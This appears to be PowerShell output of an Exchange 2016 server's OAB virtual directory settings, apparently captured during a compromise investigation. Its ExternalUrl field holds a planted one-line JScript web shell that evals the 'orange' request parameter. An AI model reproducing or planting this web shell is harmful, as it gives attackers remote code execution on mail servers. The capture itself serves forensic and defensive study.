Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://ex16-legacy.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EX16-LEGACY
InternalUrl                     : https://ex16-legacy.contoso.local/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX16-LEGACY,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local
Identity                        : EX16-LEGACY\OAB (Default Web Site)
Guid                            : ea665cc3-37e8-46d2-8514-448797515659
ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/3/2021 6:50:08 AM
WhenCreated                     : 3/3/2021 6:50:08 AM
OriginatingServer               : DC01.contoso.local
IsValid                         : True
ObjectState                     : Unchanged
